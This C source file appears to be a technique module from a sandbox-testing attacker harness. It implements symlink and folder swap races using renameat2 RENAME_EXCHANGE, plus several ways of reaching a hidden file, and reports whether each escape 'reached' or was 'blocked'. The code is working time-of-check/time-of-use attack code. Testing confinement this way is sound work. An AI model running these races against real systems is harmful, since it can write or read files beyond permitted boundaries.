/* Races on names: one thread swaps what a name means while another uses it. Bounded by time. */
#include "attacker.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#define RACE_MS 400

struct swap {
  atomic_int stop;
  const char *a, *b;
};

static void *exchange(void *argument) {
  struct swap *swap = argument;
  while (!swap->stop) syscall(SYS_renameat2, AT_FDCWD, swap->a, AT_FDCWD, swap->b, 2 /* RENAME_EXCHANGE */);
  return NULL;
}

/* race-symlink FOLDER TARGET TEXT: FOLDER/name is now a plain file, now a symbolic link to the target. */
static int race_symlink(int argc, char **argv) {
  char plain[4096], link[4096];
  const char *text = need(argc, argv, 3);
  mkdir(argv[1], 0755);
  snprintf(plain, sizeof plain, "%s/name", argv[1]);
  snprintf(link, sizeof link, "%s/other", argv[1]);
  close(open(plain, O_WRONLY | O_CREAT, 0644));
  unlink(link);
  if (symlink(argv[2], link)) return blocked("symlink");
  struct swap swap = {.a = plain, .b = link};
  pthread_t thread;
  if (pthread_create(&thread, NULL, exchange, &swap)) return blocked("thread");
  int through = 0;
  struct stat target, opened;
  int known = !stat(argv[2], &target);
  for (long end = milliseconds() + RACE_MS; milliseconds() < end;) {
    struct stat before;
    if (lstat(plain, &before) || !S_ISREG(before.st_mode)) continue;
    int fd = open(plain, O_WRONLY | O_APPEND); /* checked a regular file a moment ago */
    if (fd < 0) continue;
    if (known && !fstat(fd, &opened) && opened.st_ino == target.st_ino && !through) {
      put(fd, text);
      through = 1;
    } else if (!known)
      put(fd, text);
    close(fd);
  }
  swap.stop = 1;
  pthread_join(thread, NULL);
  if (through) return reached("wrote through the swapped name");
  errno = ENOENT;
  return blocked("the race never led outside");
}

/* race-folder FOLDER TARGETFOLDER NAME TEXT: a folder is exchanged with a link to one outside, while files are made in it. */
static int race_folder(int argc, char **argv) {
  char inner[4096], link[4096], file[8192];
  const char *text = need(argc, argv, 4);
  mkdir(argv[1], 0755);
  snprintf(inner, sizeof inner, "%s/inner", argv[1]);
  snprintf(link, sizeof link, "%s/link", argv[1]);
  mkdir(inner, 0755);
  unlink(link);
  if (symlink(argv[2], link)) return blocked("symlink");
  snprintf(file, sizeof file, "%s/%s", inner, argv[3]);
  struct swap swap = {.a = inner, .b = link};
  pthread_t thread;
  if (pthread_create(&thread, NULL, exchange, &swap)) return blocked("thread");
  for (long end = milliseconds() + RACE_MS; milliseconds() < end;) {
    int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) continue;
    put(fd, text);
    close(fd);
  }
  swap.stop = 1;
  pthread_join(thread, NULL);
  return reached("made files while the folder changed");
}

/* race-hidden HIDDEN FOLDER: links, renames and opens the hidden file by many names at once. */
static int race_hidden(int argc, char **argv) {
  char name[4096], text[256];
  const char *hidden = need(argc, argv, 1), *folder = need(argc, argv, 2);
  for (long end = milliseconds() + RACE_MS; milliseconds() < end;) {
    for (int way = 0; way < 4; way++) {
      snprintf(name, sizeof name, "%s/probe-%d", folder, way);
      unlink(name);
      int fd = -1;
      if (way == 0 && !link(hidden, name)) fd = open(name, O_RDONLY);
      if (way == 1 && !symlink(hidden, name)) fd = open(name, O_RDONLY);
      if (way == 2 && !rename(hidden, name)) {
        fd = open(name, O_RDONLY);
        rename(name, hidden);
      }
      if (way == 3) {
        int path = open(hidden, O_PATH);
        snprintf(name, sizeof name, "/proc/self/fd/%d", path);
        fd = open(name, O_RDONLY);
        close(path);
      }
      if (fd < 0) continue;
      ssize_t got = read(fd, text, sizeof text - 1);
      close(fd);
      if (got > 0) {
        text[got] = 0;
        return reached("way %d: %s", way, text);
      }
    }
  }
  return blocked("%s", hidden);
}

const struct technique race_techniques[] = {
    {"race-symlink", race_symlink}, {"race-folder", race_folder}, {"race-hidden", race_hidden}, {NULL, NULL}};
